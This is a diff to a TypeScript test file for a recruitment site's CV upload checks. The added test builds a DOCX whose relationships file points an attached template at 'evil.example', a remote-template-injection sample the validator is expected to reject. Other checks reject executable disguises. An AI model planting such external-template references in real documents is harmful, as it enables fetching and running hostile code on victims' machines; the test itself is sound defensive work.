@@ -7,6 +7,7 @@ import * as officeCirculars from '#contracts/recruitment/circulars.office.ts'
 import { circular, openCirculars, ownCertificates } from '#contracts/recruitment/circulars.ts'
 import { sql } from '#server/platform/postgres/database.ts'
 import type { TestPerson } from '#tests/world.ts'
+import { zipOf } from '#tests/zip-of.ts'
 import { type Applying, circularBody, recruitmentWorld, type RecruitmentWorld } from '../recruitment-world.ts'
 
 let w: RecruitmentWorld
@@ -131,6 +132,16 @@ describe('applying', () => {
     const errors = async (applying: Applying) => (await w.applyFor(applying)).body.errors
     expect(await errors({ cv: null })).toEqual({ cv: ['Choose your CV.'] })
     expect(await errors({ cv: { bytes: pdf, name: 'cv.exe' } })).toEqual({ cv: ['Your CV has to be a PDF or a DOCX.'] })
+    const fetching = await zipOf([
+      { name: '[Content_Types].xml', content: '<Types/>' },
+      { name: 'word/document.xml', content: '<document/>' },
+      {
+        name: 'word/_rels/settings.xml.rels',
+        content:
+          '<Relationships><Relationship Type="http://schemas.example/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
+      },
+    ])
+    expect((await errors({ cv: { bytes: fetching, name: 'cv.docx' } }))?.cv?.[0]).toMatch(/another machine/)
     expect(await errors({ cv: { bytes: Buffer.from('MZ'), name: 'cv.pdf' } })).toEqual({
       cv: ['The file is not what its name says.'],
     })
